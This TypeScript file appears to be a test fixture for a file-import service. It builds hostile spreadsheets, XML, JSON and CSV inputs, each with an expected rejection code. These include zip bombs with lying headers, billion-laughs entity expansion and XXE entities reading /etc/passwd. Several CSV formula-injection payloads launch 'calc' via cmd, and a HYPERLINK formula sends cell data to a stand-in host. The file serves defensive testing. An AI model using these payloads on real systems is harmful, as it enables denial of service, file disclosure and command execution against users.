// Row 15: files that are small and would be large, deep or running if they were believed. Each is read as any foreign file
// is: in a thread with its heap, by the limits that everybody gets.
import { deflateRawSync } from "node:zlib";
import type { Request } from "@pacta/exchange";
import {
  archive,
  csv,
  geojson,
  relations,
  sheet,
  utf8,
  workbook,
  workbookParts,
  xlsx,
  xml,
} from "../means.ts";

export type Bomb = {
  readonly family: string;
  readonly what: string;
  readonly request: () => Request;
  readonly code: string;
};

const MiB = 2 ** 20;
const zeros = new Uint8Array(40 * MiB);
const packedZeros = deflateRawSync(zeros);
const sheet1 = "xl/worksheets/sheet1.xml";

const lol = (levels: number): string =>
  `<!DOCTYPE l [<!ENTITY l0 "lol">${Array.from(
    { length: levels },
    (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`,
  ).join("")}]><l>&l${levels};</l>`;

/** Many names in the directory for one and the same packed text, as in the archive of 42 kB that fills a disk. */
function shared(count: number): Uint8Array {
  const first = { name: "docProps/0.xml", bytes: zeros.subarray(0, MiB) };
  const others = Array.from({ length: count }, (_, at) => ({
    name: `docProps/${at + 1}.xml`,
    localName: "docProps/0.xml",
    bytes: "",
    size: MiB,
    offset: 0,
  }));
  return archive([first, ...workbookParts(), ...others]);
}

/** Each part's packed bytes hold the next part's header: the names agree, and the bytes are shared. */
function nestedHeaders(): Uint8Array {
  const name = "xl/media/a.png";
  const inner = { name: "docProps/app.xml", bytes: "<a/>" };
  const outer = { name, bytes: Buffer.concat([Buffer.from("x"), archive([inner])]), method: 0 };
  return archive([outer, ...workbookParts(), { ...inner, offset: 30 + name.length + 1 }]);
}

const changedSheet = (text: string): Uint8Array => workbook({ [sheet1]: text });

export const bombs: readonly Bomb[] = [
  {
    family: "zip, ratio",
    what: "a sheet that unpacks to a thousand times its size",
    request: () => xlsx(workbook({ [sheet1]: sheet("<row/>".repeat(MiB)) })),
    code: "X205",
  },
  {
    family: "zip, ratio",
    what: "shared texts that do",
    request: () => xlsx(workbook({ "xl/sharedStrings.xml": `<sst>${"<si/>".repeat(MiB)}</sst>` })),
    code: "X205",
  },
  {
    family: "zip, lying headers",
    what: "a sheet that says it is small",
    request: () =>
      xlsx(
        archive(
          workbookParts().map((it) =>
            it.name === sheet1 ? { ...it, bytes: zeros, packed: packedZeros, size: 100 } : it,
          ),
        ),
      ),
    code: "X206",
  },
  {
    family: "zip, lying headers",
    what: "sizes that differ in the two headers",
    request: () =>
      xlsx(archive(workbookParts().map((it) => (it.name === sheet1 ? { ...it, localSize: 1 } : it)))),
    code: "X206",
  },
  {
    family: "zip, lying headers",
    what: "a directory that counts more parts than there are",
    request: () => xlsx(archive(workbookParts(), 200)),
    code: "X201",
  },
  {
    family: "zip, lying headers",
    what: "a part said to be 4 GiB",
    request: () => xlsx(archive([...workbookParts(), { name: "a.xml", bytes: "", size: 0xfffffffe }])),
    code: "X203",
  },
  {
    family: "zip, lying headers",
    what: "parts said to be more than all may be",
    request: () =>
      xlsx(
        archive([
          ...workbookParts(),
          ...[1, 2, 3, 4, 5].map((at) => ({ name: `a${at}.xml`, bytes: "", size: 60 * MiB })),
        ]),
      ),
    code: "X204",
  },
  {
    family: "zip, overlapping",
    what: "two hundred names for one text",
    request: () => xlsx(shared(200)),
    code: "X206",
  },
  {
    family: "zip, overlapping",
    what: "a part inside the bytes of another",
    request: () => xlsx(nestedHeaders()),
    code: "X207",
  },
  {
    family: "zip, nested",
    what: "a workbook inside the workbook",
    request: () =>
      xlsx(archive([...workbookParts(), { name: "xl/embeddings/inner.xlsx", bytes: workbook() }])),
    code: "X211",
  },
  {
    family: "zip, nested",
    what: "an archive that calls itself a picture",
    request: () =>
      xlsx(archive([...workbookParts(), { name: "xl/media/a.png", bytes: workbook(), method: 0 }])),
    code: "X211",
  },
  {
    family: "zip, many parts",
    what: "sixty thousand parts",
    request: () => xlsx(archive(workbookParts(), 60_000)),
    code: "X202",
  },
  {
    family: "sheet, repeated text",
    what: "one text of 60,000 characters in 5,000 cells",
    request: () =>
      xlsx(
        workbook({
          "xl/sharedStrings.xml": `<sst><si><t>${"x".repeat(60_000)}</t></si></sst>`,
          [sheet1]: sheet(
            Array.from({ length: 50 }, () => `<row>${'<c t="s"><v>0</v></c>'.repeat(100)}</row>`).join(""),
          ),
        }),
      ),
    code: "X219",
  },
  {
    family: "sheet, far cells",
    what: "a cell in the last column of the last row",
    request: () => xlsx(changedSheet(sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'))),
    code: "X105",
  },
  {
    family: "sheet, deep",
    what: "elements in elements, ten thousand deep",
    request: () => xlsx(changedSheet(`${"<a>".repeat(10_000)}${"</a>".repeat(10_000)}`)),
    code: "X302",
  },
  {
    family: "sheet, entities",
    what: "billion laughs inside a sheet",
    request: () => xlsx(changedSheet(lol(9))),
    code: "X304",
  },
  {
    family: "sheet, reaching out",
    what: "a picture from elsewhere",
    request: () =>
      xlsx(
        workbook({
          "xl/drawings/_rels/drawing1.xml.rels": relations(["image", "http://192.0.2.1/a.png", "External"]),
        }),
      ),
    code: "X213",
  },
  {
    family: "sheet, reaching out",
    what: "a DOCTYPE that names a file",
    request: () => xlsx(changedSheet('<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>')),
    code: "X304",
  },
  {
    family: "sheet, formulas",
    what: "a formula with a harmless result",
    request: () =>
      xlsx(
        changedSheet(
          sheet(`<row><c t="str"><f>HYPERLINK("http://192.0.2.1/?"&amp;A1,"ok")</f><v>ok</v></c></row>`),
        ),
      ),
    code: "X216",
  },
  {
    family: "sheet, formulas",
    what: "macros",
    request: () => xlsx(archive([...workbookParts(), { name: "xl/vbaProject.bin", bytes: "" }])),
    code: "X212",
  },
  { family: "XML entities, classic", what: "billion laughs", request: () => xml(lol(9)), code: "X304" },
  {
    family: "XML entities, quadratic",
    what: "one long entity, used often",
    request: () => xml(`<!DOCTYPE a [<!ENTITY a "${"x".repeat(100_000)}">]><a>${"&a;".repeat(100_000)}</a>`),
    code: "X304",
  },
  {
    family: "XML entities, quadratic",
    what: "a DOCTYPE of many megabytes",
    request: () => xml(`<!DOCTYPE a [<!ENTITY a "${"x".repeat(8 * MiB)}">]><a/>`),
    code: "X308",
  },
  {
    family: "XML entities, parameter",
    what: "parameter entities",
    request: () => xml(`<!DOCTYPE a [<!ENTITY % b "<!ENTITY c 'd'>">%b;]><a>&c;</a>`),
    code: "X304",
  },
  {
    family: "XML entities, external",
    what: "a file of the reader's",
    request: () => xml('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    code: "X304",
  },
  {
    family: "XML entities, numeric",
    what: "a million numeric references",
    request: () => xml(`<a>${"&#x41;".repeat(1_000_000)}</a>`),
    code: "X306",
  },
  {
    family: "XML, deep",
    what: "a hundred thousand levels",
    request: () => xml("<a>".repeat(100_000)),
    code: "X302",
  },
  {
    family: "XML, wide",
    what: "a hundred thousand attributes",
    request: () => xml(`<a ${Array.from({ length: 100_000 }, (_, at) => `b${at}=""`).join(" ")}/>`),
    code: "X303",
  },
  {
    family: "XML, long",
    what: "a name without an end",
    request: () => xml(`<${"a".repeat(60 * MiB)}`),
    code: "X308",
  },
  {
    family: "JSON, deep",
    what: "five million lists in lists",
    request: () => geojson("[".repeat(5_000_000)),
    code: "X402",
  },
  {
    family: "JSON, deep",
    what: "objects in objects",
    request: () => geojson('{"a":'.repeat(3_000_000)),
    code: "X402",
  },
  {
    family: "JSON, many",
    what: "five million empty objects",
    request: () => geojson(`{"features":[{"a":[${"{},".repeat(5_000_000)}1]}]}`),
    code: "X413",
  },
  {
    family: "JSON, many",
    what: "a million names in one object",
    request: () => geojson(`{${Array.from({ length: 1_000_000 }, (_, at) => `"${at}n":0`).join(",")}}`),
    code: "X413",
  },
  {
    family: "JSON, many",
    what: "eight million numbers",
    request: () => geojson(`{"a":[${"1,".repeat(8_000_000)}1]}`),
    code: "X413",
  },
  {
    family: "GeoJSON, many",
    what: "more positions than the world has roads",
    request: () =>
      geojson(
        `{"type":"FeatureCollection","features":[{"type":"Feature","geometry":{"type":"MultiPoint","coordinates":[${"[1,2],".repeat(1_000_000)}[1,2]]}}]}`,
      ),
    code: "X408",
  },
  {
    family: "CSV, wide",
    what: "sixty million cells in a row",
    request: () => csv(",".repeat(60 * MiB)),
    code: "X103",
  },
  {
    family: "CSV, long",
    what: "a quotation mark that is never closed",
    request: () => csv(`a\n"${"x".repeat(60 * MiB)}`),
    code: "X101",
  },
  {
    family: "CSV, long",
    what: "one cell of sixty megabytes",
    request: () => csv(`a\n"${"ä".repeat(30 * MiB)}"`),
    code: "X104",
  },
  {
    family: "CSV, many",
    what: "thirty million rows",
    request: () => csv("a\n".repeat(30 * MiB)),
    code: "X105",
  },
  ...[
    '=HYPERLINK("http://192.0.2.1")',
    "+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
  ].map(
    (cell): Bomb => ({
      family: "CSV formulas",
      what: JSON.stringify(cell),
      request: () => csv(`note\n"${cell.replaceAll('"', '""')}"\n`),
      code: "X107",
    }),
  ),
];

/** A picture that would be 30,000 by 30,000 points, and one whose bytes are no picture at all: neither is ever looked at. */
export function withPictures(): { readonly request: Request; readonly pictures: readonly string[] } {
  const header = Buffer.from("89504e470d0a1a0a0000000d494844520000753000007530080200000000000000", "hex");
  const flood = Buffer.concat([header, deflateRawSync(zeros)]);
  const pictures = ["xl/media/flood.png", "xl/media/broken.jpeg"];
  return {
    request: xlsx(
      archive([
        ...workbookParts(),
        { name: pictures[0] ?? "", bytes: flood },
        { name: pictures[1] ?? "", bytes: "", packed: utf8("no deflate at all"), size: 60 * MiB },
      ]),
    ),
    pictures,
  };
}
